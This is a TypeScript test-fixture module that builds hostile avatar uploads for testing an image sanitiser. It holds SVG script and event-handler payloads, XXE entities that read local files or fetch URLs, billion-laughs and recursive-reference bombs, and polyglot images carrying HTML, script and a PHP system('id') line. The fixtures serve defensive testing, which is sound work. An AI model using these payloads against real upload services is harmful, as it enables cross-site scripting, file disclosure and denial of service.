import { pathToFileURL } from 'node:url';
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** A malicious file, or one that breaks careless readers. */
export interface HostileImage {
  readonly name: string;
  /** As it would be uploaded. */
  readonly filename: string;
  readonly mediaType: string;
  readonly bytes: Buffer;
  /** Whether it becomes an avatar; otherwise it is refused. In neither case may it run, request or read anything. */
  readonly accepted: boolean;
}

/** What none of the files may reach. */
export interface Outside {
  /** An address that counts its requests, without a slash at its end. */
  readonly url: string;
  /** Path of a picture on the server's disk. */
  readonly file: string;
}

/** Every file's script, where it can have one, requests `{outside.url}/executed` and sets the title `executed`. */
export async function hostileImages(outside: Outside): Promise<readonly HostileImage[]> {
  return [...hostileDrawings(outside), ...(await polyglots(outside)), ...(await brokenImages())];
}

function scriptOf({ url }: Outside): string {
  return `document.title='executed';fetch('${url}/executed')`;
}

function hostileDrawings(outside: Outside): HostileImage[] {
  const script = scriptOf(outside);
  const file = pathToFileURL(outside.file).href;
  const { url } = outside;
  const square = '<rect width="100" height="100" fill="#00f"/>';
  const entity = (declaration: string) =>
    `<!DOCTYPE svg [${declaration}]>${svg(`${square}<text y="50">&x;</text>`)}`;
  const lines = (count: number, line: (index: number) => string) =>
    Array.from({ length: count }, (_, i) => line(i)).join('');

  const patterns = lines(
    12,
    (i) =>
      `<pattern id="p${i}" width="1" height="1">${`<rect width="9" height="9" fill="url(#p${i + 1})"/>`.repeat(10)}</pattern>`,
  );
  const accepted: Record<string, string> = {
    'svg with a script': svg(`<script>${script}</script>${square}`),
    'svg with a script in CDATA': svg(`<script><![CDATA[${script}]]></script>${square}`),
    'svg with a script from elsewhere': svg(`<script href="${url}/script.js"/>${square}`),
    'svg with a script under another prefix': svg(
      `<x:script xmlns:x="http://www.w3.org/2000/svg">${script}</x:script>${square}`,
    ),
    'svg with event handlers': svg(
      `<g onload="${script}" onclick="${script}">${square}</g>`,
      `onload="${script}"`,
    ),
    'svg with animation that handles events': svg(
      `${square}<animate onbegin="${script}" attributeName="x" dur="1s"/>`,
    ),
    'svg with animation of a link': svg(
      `<a>${square}<set attributeName="href" to="javascript:${script}"/></a>`,
    ),
    'svg with a javascript link': svg(`<a xlink:href="javascript:${script}">${square}</a>`),
    'svg with html inside': svg(
      `${square}<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml" onload="${script}">` +
        `<img src="${url}/x.png" onerror="${script}"/><iframe src="${url}/frame"/></body></foreignObject>`,
    ),
    'svg with html elements': svg(
      `${square}<h:script xmlns:h="http://www.w3.org/1999/xhtml">${script}</h:script>`,
    ),
    'svg with xml:base': svg(`<g xml:base="${url}/">${square}</g>`, `xml:base="${url}/"`),
    'svg with a DOCTYPE from elsewhere': `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${url}/svg11.dtd">${svg(square)}`,
    'svg with an XInclude': svg(
      `${square}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${file}" parse="text"/>`,
    ),
    'svg that says it is huge': svg(square, '', 'width="1000000" height="1000000" viewBox="0 0 100 100"'),
  };
  const refused: Record<string, string> = {
    'svg with an entity of a file': entity(`<!ENTITY x SYSTEM "${file}">`),
    'svg with an entity of an address': entity(`<!ENTITY x SYSTEM "${url}/entity">`),
    'svg with a parameter entity': entity(`<!ENTITY % p SYSTEM "${url}/p.dtd"> %p;`),
    'svg with a billion laughs': entity(
      `<!ENTITY x0 "ha">${lines(20, (i) => `<!ENTITY x${i + 1} "&x${i};&x${i};&x${i};">`)}<!ENTITY x "&x20;">`,
    ),
    'svg with a picture of an address': svg(`<image width="100" height="100" href="${url}/x.png"/>`),
    'svg with a picture of a file': svg(`<image width="100" height="100" xlink:href="${file}"/>`),
    'svg with an svg inside a picture': svg(
      `<image width="100" height="100" href="data:image/svg+xml,${encodeURIComponent(svg(`<script>${script}</script>`))}"/>`,
    ),
    'svg with a picture in a filter': svg(
      `<filter id="f"><feImage href="${url}/x.png"/></filter><rect width="100" height="100" filter="url(#f)"/>`,
    ),
    'svg with a style sheet': `<?xml-stylesheet href="${url}/x.css"?>${svg(square)}`,
    'svg with an import in CSS': svg(`<style>@import url("${url}/x.css");</style>${square}`),
    'svg with an import in CSS, escaped': svg(`<style>\\40 import "${url}/x.css";</style>${square}`),
    'svg with a font in CSS': svg(`<style>@font-face{font-family:x;src:url(${url}/x.woff)}</style>${square}`),
    'svg with an address in CSS': svg(`<style>rect{fill:url(${url}/x.svg#a)}</style>${square}`),
    'svg with an address in a style': svg(`<g style="mask: URL( '${url}/x.svg#a' )">${square}</g>`),
    'svg with an address in an attribute': svg(`<g filter="url(${url}/x.svg#a)">${square}</g>`),
    'svg with an escaped address in an attribute': svg(`<g filter="u\\72l(${url}/x.svg#a)">${square}</g>`),
    'svg with a use of another file': svg(`<use href="${url}/x.svg#a"/>${square}`),
    'svg with a use of a file': svg(`<use xlink:href="${file}#a"/>${square}`),
    'svg with a gradient of another file': svg(`<linearGradient id="a" href="${url}/x.svg#a"/>${square}`),
    'svg with a use of itself': svg(`<g id="a"><use href="#a"/></g>`),
    'svg with uses in a ring': svg(`<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>`),
    'svg with a pattern of itself': svg(
      `<pattern id="a" width="9" height="9"><rect width="9" height="9" fill="url(#a)"/></pattern><rect width="9" height="9" fill="url(#a)"/>`,
    ),
    'svg with uses that multiply': svg(
      `<g id="a0">${square}</g>${lines(12, (i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(10)}</g>`)}`,
    ),
    'svg with patterns that multiply': svg(`${patterns}<rect width="9" height="9" fill="url(#p0)"/>`),
    'svg nested too deep': svg(`${'<g>'.repeat(5000)}${square}${'</g>'.repeat(5000)}`),
    // 20,000 in force at 9,900 elements that declare another.
    'svg with too many namespaces': svg(
      '<g xmlns:a="urn:a"/>'.repeat(9900),
      lines(20_000, (i) => ` xmlns:n${i}="urn:n"`),
    ),
    'svg with too many attributes': svg(`<g${lines(250_000, (i) => ` a${i}=""`)}/>`),
    'svg with too many elements': svg('<path/>'.repeat(10_001)),
    'svg with a pattern of gigabytes': svg(
      '<pattern id="a" width="40000" height="40000" patternUnits="userSpaceOnUse"><rect width="40000" height="40000"/></pattern>' +
        '<rect width="100" height="100" fill="url(#a)"/>',
    ),
    'svg not well-formed': svg(`<g>${square}`),
    'svg with an attribute twice': svg('<rect width="1" width="2"/>'),
    'svg after its end': `${svg(square)}${svg(square)}`,
    'svg without a size': `<svg xmlns="http://www.w3.org/2000/svg">${square}</svg>`,
    'svg in Latin-1': `<?xml version="1.0" encoding="ISO-8859-1"?>${svg(square)}`,
    'html that begins like svg': `<!DOCTYPE html><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"></svg><script>${script}</script>`,
    html: `<html><script>${script}</script></html>`,
    xslt: `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>`,
  };
  const drawing = ([name, text]: [string, string], isAccepted: boolean) =>
    image(name, 'svg', Buffer.from(text), isAccepted);
  return [
    ...Object.entries(accepted).map((entry) => drawing(entry, true)),
    ...Object.entries(refused).map((entry) => drawing(entry, false)),
    image(
      'svg in UTF-16',
      'svg',
      Buffer.from(`\uFEFF${svg(`<script>${script}</script>${square}`)}`, 'utf16le'),
      false,
    ),
    image('svg compressed', 'svg', gzipSync(svg(`<script>${script}</script>${square}`)), false),
  ];
}

async function polyglots(outside: Outside): Promise<HostileImage[]> {
  const script = scriptOf(outside);
  const html = Buffer.from(`<html><script>${script}</script><?php system('id'); ?></html>`);
  const picture = sharp({ create: { width: 64, height: 64, channels: 3, background: '#00f' } });
  const png = await picture.png().toBuffer();
  const jpeg = await picture.jpeg().toBuffer();
  const gif = await picture.gif().toBuffer();
  const webp = await picture.webp().toBuffer();
  const zip = Buffer.concat([Buffer.from('PK\x03\x04'), html, Buffer.from('PK\x05\x06'), Buffer.alloc(18)]);
  // GIF89a/*…*/=1;… is a script when the two bytes of the width begin a comment.
  const gifScript = Buffer.concat([gif, Buffer.from(`*/=1;${script}`)]);
  gifScript.write('/*', 6, 'latin1');
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><script>${script}</script></x:xmpmeta>`;
  return [
    image('png with html after it', 'png', Buffer.concat([png, html]), true),
    image('png with html in a text', 'png', withPngText(png, html), true),
    image('png with a zip after it', 'png', Buffer.concat([png, zip]), true),
    image('png with another suffix', 'svg', png, true),
    image('gif with a jar after it', 'gif', Buffer.concat([gif, zip]), true),
    image('gif that is a script', 'gif', gifScript, true),
    image('jpeg with a script as its comment', 'jpg', withJpegComment(jpeg, html), true),
    image('jpeg with html after it', 'jpg', Buffer.concat([jpeg, html]), true),
    image(
      'jpeg with a script in its EXIF and XMP',
      'jpg',
      await sharp(jpeg)
        .withExif({ IFD0: { Copyright: html.toString() } })
        .withXmp(xmp)
        .jpeg()
        .toBuffer(),
      true,
    ),
    image('webp with html after it', 'webp', Buffer.concat([webp, html]), true),
    image('webp with a script in its XMP', 'webp', await sharp(webp).withXmp(xmp).webp().toBuffer(), true),
    image('html that says it is png', 'png', html, false),
  ];
}

async function brokenImages(): Promise<HostileImage[]> {
  const noise = sharp({
    create: {
      width: 64,
      height: 64,
      channels: 3,
      background: '#000',
      noise: { type: 'gaussian', mean: 128, sigma: 60 },
    },
  });
  const png = await noise.png().toBuffer();
  const webp = await noise.webp().toBuffer();
  const half = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2));
  const heif = Buffer.concat([
    Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'),
    Buffer.alloc(200),
  ]);
  return [
    image('nothing', 'png', Buffer.alloc(0), false),
    image('text', 'png', Buffer.from('A picture is worth a thousand words.'), false),
    image('png of 30,000 × 30,000 pixels', 'png', pngHeader(30_000, 30_000), false),
    image(
      'gif of 65,535 × 65,535 pixels',
      'gif',
      Buffer.from('GIF89a\xff\xff\xff\xff\x00\x00\x00,\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;', 'latin1'),
      false,
    ),
    image('png cut in half', 'png', half(png), false),
    image('png with nothing but its first bytes', 'png', png.subarray(0, 8), false),
    image('jpeg cut in half', 'jpg', half(await noise.jpeg().toBuffer()), false),
    image('gif cut in half', 'gif', half(await noise.gif().toBuffer()), false),
    image('webp cut in half', 'webp', half(webp), false),
    image(
      'webp that is svg',
      'webp',
      Buffer.from('RIFF\0\0\0\0WEBP<svg xmlns="http://www.w3.org/2000/svg"/>'),
      false,
    ),
    image(
      'pdf',
      'pdf',
      Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
      false,
    ),
    image('bmp', 'bmp', Buffer.concat([Buffer.from('BM'), Buffer.alloc(200)]), false),
    image('tiff', 'tiff', await noise.tiff().toBuffer(), false),
    image('avif', 'avif', await noise.avif().toBuffer(), false),
    image('heic', 'heic', heif, false),
    image('portable pixmap', 'ppm', Buffer.from('P6 1 1 255 abc'), false),
    image('jpeg 2000', 'jp2', Buffer.from('\0\0\0\x0cjP  \r\n\x87\n', 'latin1'), false),
  ];
}

function svg(content: string, attributes = '', size = 'viewBox="0 0 100 100"'): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${size} ${attributes}>${content}</svg>`;
}

const mediaTypes: Readonly<Record<string, string>> = {
  svg: 'image/svg+xml',
  jpg: 'image/jpeg',
  pdf: 'application/pdf',
};

function image(name: string, suffix: string, bytes: Buffer, accepted: boolean): HostileImage {
  const mediaType = mediaTypes[suffix] ?? `image/${suffix}`;
  return { name, filename: `avatar.${suffix}`, mediaType, bytes, accepted };
}

/** A PNG of black and white, of which the first line is there. */
function pngHeader(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(1, 8);
  const line = deflateSync(Buffer.alloc(1 + width / 8));
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', line),
    chunk('IEND'),
  ]);
}

function withPngText(png: Buffer, text: Buffer): Buffer {
  const afterHeader = 8 + 25;
  const added = chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), text]));
  return Buffer.concat([png.subarray(0, afterHeader), added, png.subarray(afterHeader)]);
}

function chunk(type: string, data: Buffer = Buffer.alloc(0)): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

function withJpegComment(jpeg: Buffer, comment: Buffer): Buffer {
  const marker = Buffer.from([0xff, 0xfe, 0, 0]);
  marker.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), marker, comment, jpeg.subarray(2)]);
}
